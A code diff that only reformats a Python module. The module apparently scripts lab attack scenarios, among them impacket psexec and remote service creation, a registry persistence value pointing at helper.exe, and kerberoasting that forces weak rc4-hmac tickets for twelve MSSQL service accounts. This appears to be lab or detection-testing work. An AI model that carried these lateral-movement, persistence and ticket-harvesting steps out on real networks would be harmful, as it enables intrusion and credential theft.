@@ -43,7 +43,9 @@ def _program(lab: Lab) -> Path:
 def psexec(lab: Lab) -> Iterator[None]:
     attacker, program = _files(lab), _program(lab)
     yield
-    _impacket(lab, attacker, "psexec", "-file", str(program), "-service-name", "helper", LOCAL, "cmd.exe", stdin="exit\n")
+    _impacket(
+        lab, attacker, "psexec", "-file", str(program), "-service-name", "helper", LOCAL, "cmd.exe", stdin="exit\n"
+    )
 
 
 def smbexec(lab: Lab) -> Iterator[None]:
@@ -55,14 +57,40 @@ def smbexec(lab: Lab) -> Iterator[None]:
 def service(lab: Lab) -> Iterator[None]:
     attacker = _files(lab)
     yield
-    _impacket(lab, attacker, "services", LOCAL, "create", "-name", "helper", "-display", "Helper", "-path", r"c:\windows\temp\helper.exe")
+    _impacket(
+        lab,
+        attacker,
+        "services",
+        LOCAL,
+        "create",
+        "-name",
+        "helper",
+        "-display",
+        "Helper",
+        "-path",
+        r"c:\windows\temp\helper.exe",
+    )
 
 
 def registry(lab: Lab) -> Iterator[None]:
     attacker = _files(lab)
     yield
     key = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion"
-    _impacket(lab, attacker, "reg", LOCAL, "add", "-keyName", key, "-v", "Helper", "-vt", "REG_SZ", "-vd", r"c:\windows\temp\helper.exe")
+    _impacket(
+        lab,
+        attacker,
+        "reg",
+        LOCAL,
+        "add",
+        "-keyName",
+        key,
+        "-v",
+        "Helper",
+        "-vt",
+        "REG_SZ",
+        "-vd",
+        r"c:\windows\temp\helper.exe",
+    )
 
 
 def secrets(lab: Lab) -> Iterator[None]:
@@ -83,13 +111,22 @@ def kerberoast(lab: Lab) -> Iterator[None]:
     """Tickets for every service, with the old cipher: by MIT's own clients, for Samba refuses the requests of impacket."""
     attacker = _domain(lab)
     settings = lab.folder / "krb5.conf"
-    ciphers = "".join(f"{name} = rc4-hmac\n" for name in ("default_tkt_enctypes", "default_tgs_enctypes", "permitted_enctypes"))
+    ciphers = "".join(
+        f"{name} = rc4-hmac\n" for name in ("default_tkt_enctypes", "default_tgs_enctypes", "permitted_enctypes")
+    )
     about = f"default_realm = LAB.EXAMPLE\ndns_lookup_kdc = false\nallow_weak_crypto = true\n{ciphers}"
     settings.write_text(f"[libdefaults]\n{about}[realms]\nLAB.EXAMPLE = {{\nkdc = {SERVER}\n}}\n", encoding="ascii")
     more = {"KRB5_CONFIG": str(settings), "KRB5CCNAME": f"FILE:{lab.folder}/tickets"}
     yield
     lab.run(attacker, "kinit", ACCOUNT, stdin=f"{ADMIN_PASSWORD}\n", more=more)
-    lab.run(attacker, "kvno", "-e", "rc4-hmac", *(f"MSSQLSvc/svc-{number}.lab.example:1433" for number in range(12)), more=more)
+    lab.run(
+        attacker,
+        "kvno",
+        "-e",
+        "rc4-hmac",
+        *(f"MSSQLSvc/svc-{number}.lab.example:1433" for number in range(12)),
+        more=more,
+    )
 
 
 def replication(lab: Lab) -> Iterator[None]:
